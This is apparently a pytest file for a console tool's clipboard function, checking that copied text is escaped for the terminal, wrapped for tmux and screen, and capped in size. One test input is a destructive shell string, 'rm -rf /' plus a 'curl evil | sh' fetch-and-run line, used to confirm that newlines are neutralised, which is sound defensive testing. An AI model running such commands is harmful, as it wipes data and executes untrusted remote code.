"""What is copied: made safe, wrapped for what is between, and bounded."""

from __future__ import annotations

import base64
import re

import pytest

from paigeant_console.clipboard import CLIPBOARD_LIMIT, ClipboardTooLarge, clipboard_text


def decoded(sequence: str) -> str:
    match = re.fullmatch(r"\x1b\]52;c;([A-Za-z0-9+/=]*)\x07", sequence)
    assert match
    return base64.b64decode(match[1]).decode()


def test_clipboard():
    assert decoded(clipboard_text("order-7", environ={})) == "order-7"
    assert decoded(clipboard_text("rm -rf /\ncurl evil | sh\x1b", environ={})) == "rm -rf /⏎curl evil | sh␛"
    assert decoded(clipboard_text(b"{\n \xff}", environ={}, multiline=True)) == "{\n \\xff}"


def test_clipboard_in_multiplexers():
    plain = clipboard_text("x" * 300, environ={})
    tmux = clipboard_text("x" * 300, environ={"TMUX": "/tmp/tmux-0/default,1,0"})
    assert tmux == plain + "\x1bPtmux;" + plain.replace("\x1b", "\x1b\x1b") + "\x1b\\"
    pieces = re.findall(r"\x1bP(.*?)\x1b\\", clipboard_text("x" * 300, environ={"STY": "1.tty"}), re.DOTALL)
    assert "".join(pieces) == plain
    assert max(map(len, pieces)) <= 76


def test_clipboard_has_a_limit():
    most = CLIPBOARD_LIMIT // 4 * 3
    assert len(clipboard_text("x" * most, environ={})) <= CLIPBOARD_LIMIT + 8
    for size in (most + 1, CLIPBOARD_LIMIT + 1, 10**7):
        with pytest.raises(ClipboardTooLarge):
            clipboard_text("x" * size, environ={})
